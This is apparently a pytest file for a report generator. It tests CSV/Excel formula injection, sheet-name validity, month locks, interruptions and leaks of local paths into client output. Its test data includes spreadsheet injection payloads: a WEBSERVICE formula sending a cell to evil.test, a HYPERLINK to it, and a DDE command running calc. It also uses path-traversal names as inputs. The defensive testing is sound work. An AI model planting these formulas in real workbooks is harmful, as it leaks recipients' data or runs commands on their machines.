"""The report runner under attack and accident: formulas in tables.xlsx, Excel sheet names,
two runs of one month, a folder that cannot be written, Ctrl-C, leftovers, and analyst
material kept out of the client's folder.

Runner mechanics use one tiny notebook (a few seconds per run), never the real analyses.
"""
from __future__ import annotations

import errno
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from conftest import ROOT, write_tiny_park
from ecolib import cli, report
from ecolib.presentation import escape
from ecolib.report import ReportError, month_lock, render, sheet_name, write_tables_xlsx
from ecolib.workspace import load_workspace

M = "2026-03"
#: Formulas that must never become live cells: a link, a request that leaks a cell, DDE.
FORMULAS = ('=HYPERLINK("http://evil.test/c","c")', '=WEBSERVICE("http://evil.test/leak?"&A1)', "=cmd|' /C calc'!A0")
KERNELSPEC = {"name": "ecolib", "display_name": "Python (ecolib)", "language": "python"}
PARAMS = 'workspace = ""\nmonth = ""\nlang = "en"\ninteractive = True'
TINY_PAGE = '''\
from IPython.display import HTML, display
from ecolib.notebook import SUMMARY_MIMETYPE, TABLE_MIMETYPE
display(HTML("<p>tiny page</p>"))
display({SUMMARY_MIMETYPE: {"title": "Tiny", "cards": [["Firms", "4"]], "headline": {"firms": 4}}}, raw=True)
display({TABLE_MIMETYPE: {"sheet": "Stress test: if Zhang & Lee's orders stop", "columns": ["Firm", "Value"],
                          "data": [["=HYPERLINK(\\"http://evil.test/c\\",\\"c\\")", 1], ["Cell Co", 2.5]]}}, raw=True)
'''


def _notebook(path: Path, *cells) -> Path:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = KERNELSPEC
    nb.cells = [nbformat.v4.new_code_cell(PARAMS, metadata={"tags": ["parameters"]}), *cells]
    nbformat.write(nb, path)
    return path


def _tiny_notebooks(folder: Path) -> Path:
    folder.mkdir(parents=True)
    _notebook(folder / "00_tiny.ipynb",
              nbformat.v4.new_code_cell('print("analyst: data at", workspace)', metadata={"tags": ["analyst-note"]}),
              nbformat.v4.new_code_cell(TINY_PAGE))
    return folder


def _slow_notebooks(folder: Path, marker: Path) -> Path:
    """The tiny notebook, then one that leaves ``marker`` and waits for a signal."""
    _tiny_notebooks(folder)
    _notebook(folder / "01_slow.ipynb",
              nbformat.v4.new_code_cell(f"import pathlib, time\npathlib.Path({str(marker)!r}).touch()\n"
                                        "time.sleep(300)"))
    return folder


#: The tiny park of these tests names its report folder (``report_id``); the month goes to
#: ``<out>/tiny/en/<month>/``.
TINY_WITH_ID = "name: tiny\nname_zh: 小园区\ncurrency: CNY\nwindow: 3\nreport_id: tiny\n"


def _dir(out: Path) -> Path:
    """The tiny park's report folder (English) under ``out``."""
    return out / "tiny" / "en"


def _files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    """One good run of the tiny park, after a killed run (a stale partial folder) and a failed
    one (a stale ``_failed/<month>/``)."""
    base = tmp_path_factory.mktemp("published")
    ws = write_tiny_park(base / "tiny", workspace_yaml=TINY_WITH_ID)
    notebooks = _tiny_notebooks(base / "notebooks")
    out = base / "out"
    stale_partial = _dir(out) / f".{M}.partial-999999" / "client"
    stale_partial.mkdir(parents=True)
    (stale_partial / "index.html").write_text("half", encoding="utf-8")
    stale_failed = _dir(out) / "_failed" / M
    stale_failed.mkdir(parents=True)
    (stale_failed / "01_old.ipynb").write_text("{}", encoding="utf-8")
    result = render(ws, [M], out=out, notebooks_dir=notebooks, progress=lambda s: None)[0]
    return {"ws": ws, "notebooks": notebooks, "out": out, "report": result, "base": base}


@pytest.fixture
def earlier(published, tmp_path):
    """A copy of the published output, to break; the files of its month, to compare."""
    out = tmp_path / "out"
    shutil.copytree(published["out"], out)
    return out, _files(_dir(out) / M)


def _one_line_error(capsys) -> str:
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: ") and "Traceback" not in err, err
    return err


def _report(published, out, *extra) -> int:
    return cli.main(["report", str(published["ws"]), "--month", M, "--out", str(out),
                     "--notebooks", str(published["notebooks"]), *extra])


def _clean(out: Path, before: dict[str, bytes]) -> None:
    """Nothing half-written, and the earlier month exactly as it was."""
    assert _files(_dir(out) / M) == before
    assert [p.name for p in _dir(out).iterdir() if p.name.startswith(".")] == []


# ------------------------------------------------------------------------------ 1. formulas

def test_every_text_cell_of_tables_xlsx_is_text(tmp_path):
    hostile = [*FORMULAS, "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1", "\tTab", "Bell\x07 Co"]
    table = {"sheet": "=Firms", "columns": ["=Firm", "+Node", "-Zone", "@Region", "Output"],
             "data": [[v, "+" + v, "-" + v, "@" + v, i] for i, v in enumerate(hostile)] + [[None, "x", "y", "z", 1.5]]}
    about = {"=Park": FORMULAS[1], "+Month": "-2026", "@Workspace": "@tiny", "Note": "=WEBSERVICE(A1)"}
    path = tmp_path / "tables.xlsx"
    write_tables_xlsx(path, [("00", table)], about=about)

    book = load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    with zipfile.ZipFile(path) as z:                                     # not a formula in the file either
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.endswith(".xml"))
    about_rows = list(book["About"].values)
    assert about_rows == [(k, v) for k, v in about.items()]              # the About values, as text
    rows = list(book.worksheets[1].values)
    assert rows[0] == ("=Firm", "+Node", "-Zone", "@Region", "Output")
    assert [r[0] for r in rows[1:len(hostile) + 1]] == [v.replace("\x07", "") for v in hostile]
    assert rows[1][1:4] == ("+" + FORMULAS[0], "-" + FORMULAS[0], "@" + FORMULAS[0])
    assert rows[1][4] == 0 and rows[-1] == (None, "x", "y", "z", 1.5)   # numbers stay numbers
    assert book.worksheets[1].freeze_panes == "A2"
    assert book.worksheets[1].column_dimensions["A"].width >= 8


def test_store_text_works_on_write_only_cells(tmp_path):
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    ws = book.create_sheet("t")
    ws.append([escape.store_text(WriteOnlyCell(ws), FORMULAS[1]), 3])
    book.save(tmp_path / "w.xlsx")
    cell = load_workbook(tmp_path / "w.xlsx")["t"]["A1"]
    assert (cell.data_type, cell.value) == ("s", FORMULAS[1])


# ------------------------------------------------------------------------------ 13. sheet names

def _valid_sheet_name(name: str) -> bool:
    return (0 < len(name.encode("utf-16-le")) // 2 <= 31 and not re.search(r"[\[\]:*?/\\]", name)
            and not name.startswith("'") and not name.endswith("'") and name.casefold() != "history"
            and not re.search("[\x00-\x1f\ud800-\udfff\ufffe\uffff]", name))


def test_sheet_name_of_the_issue_is_accepted():
    taken: set[str] = set()
    name = sheet_name("03 Stress test  if Zhang & Lee'", taken)
    assert name == "03 Stress test if Zhang & Lee" and _valid_sheet_name(name)
    assert sheet_name("History", taken) == "History (2)"
    assert sheet_name("", taken) == "table" and sheet_name("''", taken) == "table (2)"
    assert sheet_name("x" * 40, taken) == "x" * 31 and sheet_name("X" * 40, taken) == "X" * 27 + " (2)"


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=50), max_size=12))
def test_sheet_names_follow_excels_rules(texts):
    taken: set[str] = set()
    names = [sheet_name(t, taken) for t in texts]
    assert all(_valid_sheet_name(n) for n in names), names
    assert len({n.casefold() for n in names}) == len(names)


@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=40), min_size=1, max_size=4))
def test_sheet_names_survive_a_round_trip_through_openpyxl(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("names") / "t.xlsx"
    write_tables_xlsx(path, [("00", {"sheet": t, "columns": ["a"], "data": [[1]]}) for t in texts], about={})
    taken: set[str] = set()
    expected = [sheet_name("About", taken)] + [sheet_name(f"00 {t}", taken) for t in texts]
    assert load_workbook(path, read_only=True).sheetnames == expected


# ------------------------------------------------------------------------------ 12. leftovers and leaks

def test_client_folder_holds_only_client_material(published):
    result, out = published["report"], published["out"]
    folder = result.folder
    assert folder == _dir(out) / M
    [css] = [p.name for p in folder.glob("notebook-*.css")]               # the page's style sheet, beside it
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        ["00_tiny.html", "index.html", "summary.json", "tables.xlsx", css])   # no figure: no plotly.js
    assert result.notebooks == _dir(out) / "_analyst" / M / "notebooks"
    executed = (result.notebooks / "00_tiny.ipynb").read_text(encoding="utf-8")
    machine = str(published["ws"].resolve())
    assert machine in executed and "analyst: data at" in executed       # the analyst keeps everything
    index = (folder / "index.html").read_text(encoding="utf-8")
    assert "notebooks" not in index and "ipynb" not in index
    assert "analyst: data at" not in (folder / "00_tiny.html").read_text(encoding="utf-8")
    for page in (folder / "index.html", _dir(out) / "index.html"):
        assert escape.csp_meta() in page.read_text(encoding="utf-8").split("</head>", 1)[0], page
    assert report._e is escape.html_text                                 # one escaping helper
    for path in folder.iterdir():                                        # no path of this machine
        texts = ([zipfile.ZipFile(path).read(n).decode("utf-8") for n in zipfile.ZipFile(path).namelist()]
                 if path.suffix == ".xlsx" else [path.read_text(encoding="utf-8")])
        for text in texts:
            for secret in (str(published["base"]), str(ROOT), sys.prefix, str(Path.home())):
                assert secret not in text, (path.name, secret)
    for text in [(_dir(out) / "index.html").read_text(encoding="utf-8")]:
        assert str(published["base"]) not in text


def test_a_good_run_removes_stale_partial_and_failed_folders(published):
    tiny = _dir(published["out"])
    assert not (tiny / "_failed").exists()                               # the stale failure went
    assert sorted(p.name for p in tiny.iterdir()) == [M, "_analyst", "index.html"]
    book = load_workbook(published["report"].folder / "tables.xlsx")
    assert book.sheetnames == ["About", "00 Stress test if Zhang & Lee's"]
    assert book.worksheets[1]["A2"].data_type == "s"


def test_safe_name_is_a_valid_folder_name(tmp_path):
    for name in ("a" * 300, "园区" * 200, "../../etc", "a/b\\c", "line\nbreak\ttab", ".hidden", "..", "-rf",
                 "*?<>|:\"", "\x01\x7f", "\ud800 lone", "é" * 100):
        slug = report._safe_name(name)
        assert 0 < len(slug.encode("utf-8")) <= report.SLUG_MAX_BYTES, name
        assert slug not in (".", "..") and not slug.startswith((".", "-")) and "/" not in slug and "\\" not in slug
        assert not re.search(r"[\x00-\x1f\x7f\s]", slug)
        (tmp_path / slug).mkdir(exist_ok=True)
    assert report._safe_name("a" * 300) != report._safe_name("a" * 299 + "b")   # long names stay apart
    assert report._safe_name("tiny") == "tiny"


def test_a_long_odd_workspace_name_gives_a_valid_folder(published, tmp_path, capsys):
    name = "工业园 <Park> / ../" + "很长的名字" * 14           # 232 bytes: the loader allows 255
    ws = write_tiny_park(tmp_path / "odd", workspace_yaml=f"name: '{name}'\nwindow: 3\n")
    out = tmp_path / "out"
    assert cli.main(["report", str(ws), "--month", M, "--out", str(out), "--notebooks", str(published["notebooks"])]) == 0
    [folder] = list(out.iterdir())
    assert folder.name == report.report_id(load_workspace(ws))
    assert folder.name.startswith(report._safe_name(name) + "-")        # readable, then the path's hash
    assert len(folder.name.encode()) <= report.SLUG_MAX_BYTES + 1 + report.REPORT_HASH_LENGTH
    assert (folder / "en" / M / "index.html").is_file()


# ------------------------------------------------------------------------------ 5. two runs at once

def _hold_lock(ws_dir: Path) -> subprocess.Popen:
    """Another process that holds the month's lock until its stdin closes."""
    code = ("import sys; from pathlib import Path; from ecolib.report import month_lock\n"
            f"with month_lock(Path({str(ws_dir)!r}), {M!r}):\n"
            "    print('held', flush=True); sys.stdin.read()\n")
    proc = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "held"
    return proc


def test_a_second_run_of_the_same_month_stops_with_the_holders_name(published, earlier, capsys):
    out, before = earlier
    ws_dir = _dir(out)
    working = ws_dir / f".{M}.partial-123456"                          # the holder's working folder
    working.mkdir()
    holder = _hold_lock(ws_dir)
    try:
        assert _report(published, out) == 1
        err = _one_line_error(capsys)
        assert f"process {holder.pid}" in err and "another report run" in err and str(ws_dir / M) in err
        assert working.is_dir()                                          # no recovery without the lock
        assert _files(ws_dir / M) == before
    finally:
        holder.stdin.close()
        holder.wait()
    assert not (ws_dir / f".{M}.lock").exists()                          # released and removed
    working.rmdir()


def test_a_killed_holder_does_not_block_the_next_run(published, earlier):
    out, _ = earlier
    holder = _hold_lock(_dir(out))
    holder.kill()                                                        # the kernel releases its lock
    holder.wait()
    assert (_dir(out) / f".{M}.lock").exists()                        # the file stays, unlocked
    result = render(published["ws"], [M], out=out, notebooks_dir=published["notebooks"], progress=lambda s: None)[0]
    assert result.index.is_file() and not (_dir(out) / f".{M}.lock").exists()


def test_month_lock_is_exclusive_within_one_process_too(tmp_path):
    with month_lock(tmp_path, M):
        with pytest.raises(ReportError, match=f"process {os.getpid()}"):
            with month_lock(tmp_path, M):
                pass
        with month_lock(tmp_path, "2026-04"):                            # another month: its own lock
            pass
    with month_lock(tmp_path, M):                                        # free again
        pass


# ------------------------------------------------------------------------------ 11. messages, not tracebacks

@pytest.mark.parametrize("where", ["out", "workspace", "lang", "month", "analyst"])
def test_a_file_in_the_way_is_named(published, earlier, tmp_path, capsys, where):
    out, before = earlier
    blocker = {"out": tmp_path / "plain-file", "workspace": out / "tiny", "lang": _dir(out), "month": _dir(out) / M,
               "analyst": _dir(out) / "_analyst"}[where]
    if blocker.is_dir():
        shutil.rmtree(blocker)
    blocker.write_text("in the way", encoding="utf-8")
    target = blocker if where == "out" else out
    assert _report(published, target) == 1
    err = _one_line_error(capsys)
    assert f"{blocker} is a file where the report folder" in err
    assert blocker.read_text(encoding="utf-8") == "in the way"
    if where == "analyst":
        _clean(out, before)


def test_a_read_only_output_folder_is_named(published, tmp_path, capsys, monkeypatch):
    out = tmp_path / "read-only"
    out.mkdir()
    real_mkdir = Path.mkdir

    def refuse(self, *args, **kwargs):                 # root ignores chmod: refuse like a read-only mount
        if str(self).startswith(str(out)):
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real_mkdir(self, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", refuse)
    assert _report(published, out) == 1
    err = _one_line_error(capsys)
    assert "permission denied" in err and str(_dir(out)) in err
    assert list(out.iterdir()) == []


def test_a_full_disk_is_named_and_leaves_nothing(published, earlier, capsys, monkeypatch):
    out, before = earlier

    def full(path, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(report, "write_tables_xlsx", full)
    assert _report(published, out) == 1
    err = _one_line_error(capsys)
    assert "no space left on the device" in err and "tables.xlsx" in err and "nothing was published" in err
    _clean(out, before)
    assert not (_dir(out) / "_failed").exists()


@pytest.mark.parametrize("how", ["ctrl-c", "sigterm"])
def test_an_interrupted_run_says_so_and_leaves_nothing(published, earlier, tmp_path, how):
    out, before = earlier
    marker = tmp_path / "slow-started"
    notebooks = _slow_notebooks(tmp_path / "notebooks", marker)
    proc = subprocess.Popen([sys.executable, "-m", "ecolib.cli", "report", str(published["ws"]), "--month", M,
                             "--out", str(out), "--notebooks", str(notebooks)], start_new_session=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    while not marker.exists() and proc.poll() is None:                 # until the slow notebook runs
        time.sleep(0.1)
    assert marker.exists(), proc.communicate()
    if how == "ctrl-c":
        os.killpg(proc.pid, signal.SIGINT)             # a terminal sends it to the whole group, kernel too
    else:
        os.kill(proc.pid, signal.SIGTERM)
    stdout, stderr = proc.communicate()
    assert proc.returncode == 1, stderr
    name = "SIGINT" if how == "ctrl-c" else "SIGTERM"
    assert stderr.count("\n") == 1 and f"interrupted ({name})" in stderr and "Traceback" not in stderr, stderr
    _clean(out, before)
    assert not (_dir(out) / "_failed").exists()                       # an interrupt is not a failure
    assert (_dir(out) / "_analyst" / M / "notebooks" / "00_tiny.ipynb").is_file()   # the earlier one
